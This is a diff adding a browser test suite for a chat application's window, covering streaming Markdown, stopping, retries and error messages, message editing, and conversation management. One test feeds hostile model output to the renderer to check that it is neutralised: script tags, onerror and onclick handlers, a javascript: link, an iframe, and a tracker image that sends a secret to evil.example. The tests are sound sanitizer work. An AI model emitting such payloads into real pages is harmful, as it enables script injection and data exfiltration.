@@ -1,0 +1,252 @@
+// @ts-check
+// The chat window in headless Chromium against the in-page fake backend.
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { openWindow, useBrowser, withKey } from './harness.mjs';
+
+useBrowser();
+
+const answer = (/** @type {import('playwright-core').Page} */ page) =>
+  page.locator('[data-testid="message"][data-role="assistant"]').last();
+
+/** Queues a scripted answer in the fake backend. */
+async function script(/** @type {import('playwright-core').Page} */ page, /** @type {any[]} */ steps) {
+  await page.evaluate((s) => window['foxtailMock'].control.answers.push(s), steps);
+}
+
+async function send(/** @type {import('playwright-core').Page} */ page, /** @type {string} */ text) {
+  await page.getByTestId('composer').fill(text);
+  await page.getByTestId('composer').press('Enter');
+}
+
+test('an answer streams in as Markdown, is announced once, and lands in the sidebar', async () => {
+  const { page, pageErrors, close } = await openWindow({ setup: withKey });
+  try {
+    const text = '# Plan\n\n- first\n- second\n\n```js\nconsole.log(1)\n```\n\nDone.';
+    await page.evaluate((t) => {
+      const fake = window['foxtailMock'];
+      fake.control.answers.push([
+        ...fake.tokens(t, 60),
+        { delay: 10, events: [{ type: 'finish', reason: 'stop', raw: 'stop' }] },
+      ]);
+    }, text);
+    await send(page, 'Make a plan');
+    const a = answer(page);
+    await assert.doesNotReject(a.locator('h1', { hasText: 'Plan' }).waitFor());
+    assert.equal(await a.getAttribute('data-status'), 'streaming', 'still streaming after the heading');
+    // Nothing is announced while tokens arrive.
+    assert.equal(await page.getByTestId('announcer').textContent(), '');
+    await page.locator('[data-testid="message"][data-status="done"][data-role="assistant"]').waitFor();
+    assert.equal(await a.locator('li').count(), 2);
+    assert.equal(await a.locator('pre code').textContent(), 'console.log(1)\n');
+    assert.ok(await a.locator('button.md-copy').isVisible(), 'code block has a copy button');
+    assert.match((await page.getByTestId('announcer').textContent()) ?? '', /Done\./);
+    assert.equal(await page.getByTestId('conversation').count(), 1);
+    assert.match((await page.getByTestId('conversation').textContent()) ?? '', /Make a plan/);
+
+    // Copy puts the code, not the page's markup, on the clipboard.
+    await a.locator('button.md-copy').click();
+    assert.equal(await page.evaluate(() => window['foxtailMock'].control.clipboard), 'console.log(1)');
+    assert.deepEqual(pageErrors, []);
+  } finally {
+    await close();
+  }
+});
+
+test('Stop and Esc end the answer at once and keep its text', async () => {
+  const { page, close } = await openWindow({ setup: withKey });
+  try {
+    const long = Array.from({ length: 200 }, (_, i) => `word${i}`).join(' ');
+    await page.evaluate((t) => window['foxtailMock'].control.answers.push(window['foxtailMock'].tokens(t, 40)), long);
+    await send(page, 'Talk a lot');
+    await answer(page).getByText('word3').waitFor();
+    await page.getByTestId('stop').click();
+    await page.locator('[data-testid="message"][data-role="assistant"][data-status="interrupted"]').waitFor({ timeout: 500 });
+    const kept = (await answer(page).textContent()) ?? '';
+    assert.match(kept, /word3/);
+    assert.match(await page.getByTestId('cut-off').textContent() ?? '', /Stopped/);
+    await page.waitForTimeout(200);
+    assert.equal(await answer(page).textContent(), kept, 'nothing arrives after Stop');
+    assert.ok(await page.getByTestId('continue').isVisible(), 'a stopped answer can be continued');
+    assert.ok(await page.getByTestId('send').isVisible(), 'the composer sends again');
+
+    // Esc does the same.
+    await page.evaluate((t) => window['foxtailMock'].control.answers.push(window['foxtailMock'].tokens(t, 40)), long);
+    await send(page, 'Again');
+    await answer(page).getByText('word2').waitFor();
+    await page.keyboard.press('Escape');
+    await page.locator('[data-testid="message"][data-role="assistant"]').last().and(page.locator('[data-status="interrupted"]')).waitFor({ timeout: 500 });
+  } finally {
+    await close();
+  }
+});
+
+test('retries, a resume, and errors are shown in plain words', async () => {
+  const { page, close } = await openWindow({ setup: withKey });
+  try {
+    await script(page, [
+      { delay: 0, events: [{ type: 'retry', attempt: 2, max_attempts: 3, delay_ms: 4000, reason: 'HTTP 503', resume: false }] },
+      { delay: 1500, events: [{ type: 'text', text: 'Hello' }] },
+      { delay: 10, events: [{ type: 'retry', attempt: 1, max_attempts: 2, delay_ms: 300, reason: 'reset', resume: true }] },
+      { delay: 400, events: [{ type: 'text', text: ' world' }] },
+      { delay: 1000, events: [{ type: 'finish', reason: 'stop', raw: 'stop' }] },
+    ]);
+    await send(page, 'Hi');
+    const status = page.getByTestId('status-line');
+    await assert.doesNotReject(status.getByText('Trying again in 4 s (attempt 2 of 3)').waitFor());
+    await status.getByText('The connection dropped').waitFor();
+    await status.getByText('Reconnected, continuing.').waitFor();
+    await answer(page).and(page.locator('[data-status="done"]')).waitFor();
+    assert.match((await answer(page).textContent()) ?? '', /Hello world/);
+
+    await script(page, [
+      { delay: 10, events: [{ type: 'error', kind: 'auth', message: 'Incorrect API key provided: sk-te***34', status: 401 }] },
+    ]);
+    await send(page, 'Again');
+    const error = answer(page).getByTestId('error');
+    await error.waitFor();
+    assert.equal(await answer(page).getAttribute('data-status'), 'error');
+    assert.match((await error.locator('p').textContent()) ?? '', /The API key was rejected\. Check it in Settings\./);
+    assert.equal(await error.locator('details').getAttribute('open'), null, 'technical detail is folded');
+    assert.match((await error.locator('details').textContent()) ?? '', /Incorrect API key provided.*HTTP 401/s);
+
+    await script(page, [
+      { delay: 10, events: [{ type: 'text', text: 'Half an ans' }] },
+      { delay: 10, events: [{ type: 'error', kind: 'interrupted', message: 'the stream ended early' }] },
+    ]);
+    await send(page, 'Third');
+    await answer(page).and(page.locator('[data-status="interrupted"]')).waitFor();
+    assert.match((await page.getByTestId('cut-off').last().textContent()) ?? '', /cut off/);
+    await script(page, [
+      { delay: 10, events: [{ type: 'text', text: 'wer.' }] },
+      { delay: 10, events: [{ type: 'finish', reason: 'stop', raw: 'stop' }] },
+    ]);
+    await answer(page).getByTestId('continue').click();
+    await answer(page).and(page.locator('[data-status="done"]')).waitFor();
+    assert.match((await answer(page).textContent()) ?? '', /Half an answer\./);
+  } finally {
+    await close();
+  }
+});
+
+test('model output cannot run script, navigate, or load remote images', async () => {
+  const { page, pageErrors, close } = await openWindow({ setup: withKey });
+  try {
+    const hostile = [
+      '<script>window.pwned = 1</script>',
+      '<img src="x" onerror="window.pwned = 2">',
+      '<a href="https://example.com" onclick="window.pwned = 3">handler</a>',
+      '[js link](javascript:window.pwned=4)',
+      '![tracker](https://evil.example/pixel.png?c=secret)',
+      '<iframe src="https://evil.example"></iframe>',
+      '[safe link](https://example.org/page)',
+    ].join('\n\n');
+    await page.evaluate((t) => {
+      const fake = window['foxtailMock'];
+      fake.control.answers.push([...fake.tokens(t, 5), { delay: 5, events: [{ type: 'finish', reason: 'stop', raw: 'stop' }] }]);
+    }, hostile);
+    await send(page, 'Be evil');
+    await answer(page).and(page.locator('[data-status="done"]')).waitFor();
+    const a = answer(page);
+    assert.equal(await a.locator('script, iframe, [onerror], [onclick]').count(), 0);
+    assert.equal(await a.locator('img[src^="http"]').count(), 0, 'no remote image is loaded');
+    assert.equal(await a.locator('a[href^="javascript"]').count(), 0);
+    assert.ok(await a.locator('button.md-image-placeholder').isVisible(), 'the image waits behind a button');
+    await a.getByText('js link').click();
+    await a.getByText('handler').click();
+    await a.getByText('safe link').click();
+    await page.waitForTimeout(100);
+    assert.equal(await page.evaluate(() => window['pwned']), undefined);
+    // Raw HTML shows as text, so only the Markdown link opens, in the system browser.
+    assert.deepEqual(await page.evaluate(() => window['foxtailMock'].control.opened), ['https://example.org/page']);
+    assert.ok(page.url().endsWith('/mock.html'), 'the window never navigated');
+    assert.deepEqual(pageErrors, []);
+  } finally {
+    await close();
+  }
+});
+
+test('regenerate, edit-and-resend and copy work on messages', async () => {
+  const { page, close } = await openWindow({ setup: withKey });
+  try {
+    const say = (/** @type {string} */ t) => [
+      { delay: 5, events: [{ type: 'text', text: t }] },
+      { delay: 5, events: [{ type: 'finish', reason: 'stop', raw: 'stop' }] },
+    ];
+    await script(page, say('First answer'));
+    await send(page, 'Question one');
+    await answer(page).getByText('First answer').waitFor();
+    await answer(page).and(page.locator('[data-status="done"]')).waitFor();
+
+    await script(page, say('Second try'));
+    await answer(page).getByTestId('regenerate').click();
+    await answer(page).getByText('Second try').waitFor();
+    assert.equal(await page.getByTestId('message').count(), 2);
+
+    await answer(page).getByTestId('copy').click();
+    assert.equal(await page.evaluate(() => window['foxtailMock'].control.clipboard), 'Second try');
+
+    await script(page, say('Answer to the edit'));
+    const user = page.locator('[data-testid="message"][data-role="user"]');
+    await user.getByTestId('edit').click();
+    await page.getByTestId('edit-input').fill('Question one, edited');
+    await page.getByTestId('edit-send').click();
+    await answer(page).getByText('Answer to the edit').waitFor();
+    assert.equal(await page.getByTestId('message').count(), 2, 'the old turn was replaced');
+    assert.equal(await user.textContent().then((t) => t?.includes('Question one, edited')), true);
+  } finally {
+    await close();
+  }
+});
+
+test('conversations can be searched, renamed, deleted with undo, and reopened', async () => {
+  const { page, close } = await openWindow({ setup: withKey });
+  try {
+    for (const [q, a] of [
+      ['About otters', 'Otters hold hands while sleeping.'],
+      ['About bees', 'Bees dance to share directions.'],
+    ]) {
+      await script(page, [
+        { delay: 5, events: [{ type: 'text', text: a }] },
+        { delay: 5, events: [{ type: 'finish', reason: 'stop', raw: 'stop' }] },
+      ]);
+      await page.keyboard.press('Control+n');
+      await send(page, q);
+      await answer(page).and(page.locator('[data-status="done"]')).waitFor();
+    }
+    const rows = page.getByTestId('conversation');
+    assert.equal(await rows.count(), 2);
+    assert.match((await rows.first().textContent()) ?? '', /About bees/, 'newest first');
+
+    await page.keyboard.press('Control+k');
+    await page.keyboard.type('dance');
+    await page.getByTestId('search-hit').waitFor();
+    assert.equal(await page.getByTestId('search-hit').count(), 1);
+    assert.equal(await page.locator('[data-testid="search-hit"] mark').textContent(), 'dance');
+    await page.getByTestId('search').fill('');
+
+    await page.keyboard.press('Control+n');
+    assert.equal(await page.getByTestId('message').count(), 0);
+    await rows.filter({ hasText: 'About otters' }).locator('.conversation-link').click();
+    await page.getByText('Otters hold hands').waitFor();
+
+    const otters = rows.filter({ hasText: 'About otters' });
+    await otters.hover();
+    await otters.getByTestId('rename').click();
+    await page.getByTestId('rename-input').fill('Sea otters');
+    await page.getByTestId('rename-input').press('Enter');
+    await rows.filter({ hasText: 'Sea otters' }).waitFor();
+
+    const renamed = rows.filter({ hasText: 'Sea otters' });
+    await renamed.hover();
+    await renamed.getByTestId('delete').click();
+    await page.getByTestId('undo').waitFor();
+    assert.equal(await rows.count(), 1);
+    assert.equal(await page.getByTestId('message').count(), 0, 'the open conversation closed');
+    await page.getByTestId('undo').click();
+    await rows.filter({ hasText: 'Sea otters' }).waitFor();
+    assert.equal(await rows.count(), 2);
+  } finally {
+    await close();
+  }
+});
